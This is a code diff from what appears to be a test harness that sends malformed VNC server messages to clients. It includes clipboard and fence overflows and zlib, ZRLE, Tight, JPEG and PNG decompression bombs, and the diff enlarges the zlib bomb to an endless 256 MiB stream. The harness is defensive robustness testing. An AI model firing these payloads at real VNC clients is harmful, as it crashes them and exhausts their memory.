@@ -71,8 +71,8 @@ func messageAttacks() []Attack {
 		{Name: "clipboard-short", About: "sends an extended clipboard of three bytes", bytes: joined(cut, u32(0xfffffffd), []byte("\x00\x00\x00"))},
 		{Name: "clipboard-garbage", About: "sends an extended clipboard that is no zlib stream; a client may ignore it", Harmless: true,
 			bytes: rfb.AppendServerClipboard(nil, rfb.ClipboardMessage{Flags: rfb.ClipboardProvide | rfb.ClipboardText, Data: []byte("garbage")})},
-		{Name: "clipboard-bomb", About: "sends an extended clipboard that says it is 4 GiB, and is 16 MiB; a client may ignore it", Harmless: true,
-			bytes: rfb.AppendServerClipboard(nil, rfb.ClipboardMessage{Flags: rfb.ClipboardProvide | rfb.ClipboardText, Data: deflated(u32(0xffffffff), zeros(16<<20))})},
+		{Name: "clipboard-bomb", About: "sends an extended clipboard that says it is 4 GiB, and is 1 MiB; a client may ignore it", Harmless: true,
+			bytes: rfb.AppendServerClipboard(nil, rfb.ClipboardMessage{Flags: rfb.ClipboardProvide | rfb.ClipboardText, Data: deflated(u32(0xffffffff), zeros(1<<20))})},
 		{Name: "fence-long", About: "sends a fence with 255 bytes, where 64 are allowed", bytes: joined([]byte{byte(rfb.ServerFence), 0, 0, 0, 0x80, 0, 0, 0, 255}, zeros(255))},
 		{Name: "colors-beyond", About: "sets colors beyond 65,535; a client may ignore them", Harmless: true,
 			bytes: joined([]byte{byte(rfb.SetColorMapEntries), 0, 0xff, 0xff, 0, 2}, zeros(12))},
@@ -176,17 +176,25 @@ func pseudoAttacks() []Attack {
 	}
 }
 
-// bomb is computed once, since that takes a while.
-var bomb = sync.OnceValue(func() []byte { return deflated(zeros(64 << 20)) })
+// bomb returns a zlib stream of 256 MiB of zeros. It is one block again and
+// again, and has no end.
+var bomb = sync.OnceValue(func() []byte {
+	const block = 256 << 10
+	var b bytes.Buffer
+	w := zlib.NewWriter(&b)
+	_, _ = w.Write(zeros(block)) // a buffer does not fail
+	_ = w.Flush()
+	return append(b.Bytes()[:2:2], bytes.Repeat(b.Bytes()[2:], 256<<20/block)...)
+})
 
 // bombAttacks are small and become large.
 func bombAttacks() []Attack {
 	box := rfb.Rect{Width: 16, Height: 16}
 	bomb := bomb()
 	return []Attack{
-		{Name: "zlib-bomb", About: "inflates to 64 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingZlib, counted(bomb))},
-		{Name: "zrle-bomb", About: "inflates to 64 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingZRLE, counted(bomb))},
-		{Name: "tight-bomb", About: "inflates to 64 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingTight, []byte{0}, compact(bomb))},
+		{Name: "zlib-bomb", About: "inflates to 256 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingZlib, counted(bomb))},
+		{Name: "zrle-bomb", About: "inflates to 256 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingZRLE, counted(bomb))},
+		{Name: "tight-bomb", About: "inflates to 256 MiB for a rectangle of 1 KiB; a client may ignore the rest", Harmless: true, bytes: update(box, rfb.EncodingTight, []byte{0}, compact(bomb))},
 		{Name: "jpeg-bomb", About: "has a JPEG of 65,500 by 65,500 for a rectangle of 16 by 16", bytes: update(box, rfb.EncodingTight, []byte{0x90}, compact(resizedJPEG()))},
 		{Name: "png-bomb", About: "has a PNG of 65,535 by 65,535 for a rectangle of 16 by 16", bytes: update(box, rfb.EncodingTightPNG, []byte{0xa0}, compact(resizedPNG()))},
 	}
